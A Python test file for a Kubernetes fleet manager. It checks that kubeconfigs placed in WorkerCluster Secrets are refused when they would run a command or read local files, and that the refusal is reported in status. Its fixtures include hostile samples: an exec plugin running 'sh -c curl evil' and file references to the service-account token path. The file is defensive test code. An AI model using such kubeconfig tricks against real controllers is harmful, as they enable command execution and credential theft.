"""A WorkerCluster's kubeconfig Secret cannot make the manager run a command or read one of
its own files: whoever may edit that Secret may name a worker, no more. Such a kubeconfig
is refused, and the WorkerCluster's status says what to fix."""

from __future__ import annotations

import base64
from typing import Any

import pytest
import yaml

from dispatcher.controller.manager.worker_kubeconfig import outside_references

from .test_manager import Fleet, Worker

SA_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def kubeconfig(user: dict[str, Any], cluster: dict[str, Any] | None = None) -> bytes:
    return yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": "w",
        "clusters": [{"name": "w", "cluster": {"server": "https://w1.example:6443",
                                               **(cluster or {})}}],
        "users": [{"name": "u", "user": user}],
        "contexts": [{"name": "w", "context": {"cluster": "w", "user": "u"}}],
    }).encode()


HOSTILE = {
    "users[u].exec": kubeconfig({"exec": {"apiVersion": "client.authentication.k8s.io/v1",
                                          "command": "sh", "args": ["-c", "curl evil"]}}),
    "users[u].tokenFile": kubeconfig({"tokenFile": SA_TOKEN}),
    "users[u].auth-provider": kubeconfig({"auth-provider": {"name": "gcp"}}),
    "users[u].client-certificate": kubeconfig({"client-certificate": "/etc/tls.crt",
                                               "client-key-data": "eA=="}),
    "users[u].client-key": kubeconfig({"client-key": "/etc/tls.key",
                                       "client-certificate-data": "eA=="}),
    "clusters[w].certificate-authority": kubeconfig({"token": "t"},
                                                    {"certificate-authority": SA_TOKEN}),
}


@pytest.mark.parametrize("where", sorted(HOSTILE))
def test_each_command_or_file_a_kubeconfig_names_is_found(where: str) -> None:
    assert outside_references(HOSTILE[where]) == [where]


def test_credentials_held_in_the_kubeconfig_itself_are_fine() -> None:
    assert outside_references(kubeconfig({"token": "t"},
                                         {"certificate-authority-data": "eA=="})) == []
    assert outside_references(kubeconfig({"client-certificate-data": "eA==",
                                          "client-key-data": "eA=="})) == []


def put_kubeconfig(fleet: Fleet, worker: str, text: bytes) -> None:
    secret = fleet.manager.get("v1", "Secret", "fleet", worker)
    assert secret is not None
    secret["data"] = {"kubeconfig": base64.b64encode(text).decode()}
    fleet.manager.put(secret)


def worker_status(fleet: Fleet, worker: str) -> dict[str, Any]:
    obj = fleet.manager.get("workload.codeflare.dev/v1beta1", "WorkerCluster", None, worker)
    assert obj is not None
    return dict(obj.get("status") or {})


def test_a_worker_whose_kubeconfig_runs_a_command_is_never_connected_and_says_why() -> None:
    fleet = Fleet(Worker("w1"))
    put_kubeconfig(fleet, "w1", HOSTILE["users[u].exec"])
    fleet.cycle(2)
    assert "w1" not in fleet.process.clusters.links  # nothing loaded, nothing run
    status = worker_status(fleet, "w1")
    assert status["reachable"] == "False"
    assert status["message"].startswith(
        "WorkerCluster w1: the kubeconfig in Secret fleet/w1 uses users[u].exec; put the "
        "credentials in the kubeconfig itself")
    assert fleet.manager.status_writes("w1") == 1  # said once


def test_an_edit_to_a_token_file_keeps_the_link_it_had_and_says_why() -> None:
    fleet = Fleet(Worker("w1"))
    fleet.cycle()
    link = fleet.process.clusters.links["w1"]
    put_kubeconfig(fleet, "w1", HOSTILE["users[u].tokenFile"])
    fleet.cycle(2)
    assert fleet.process.clusters.links["w1"] is link  # the copies there stay within reach
    status = worker_status(fleet, "w1")
    assert "uses users[u].tokenFile" in status["message"]
    assert status["message"].endswith("(the kubeconfig it had before is used meanwhile)")
    put_kubeconfig(fleet, "w1", b"w1")
    fleet.cycle()
    assert worker_status(fleet, "w1") == {"reachable": "True", "message": ""}
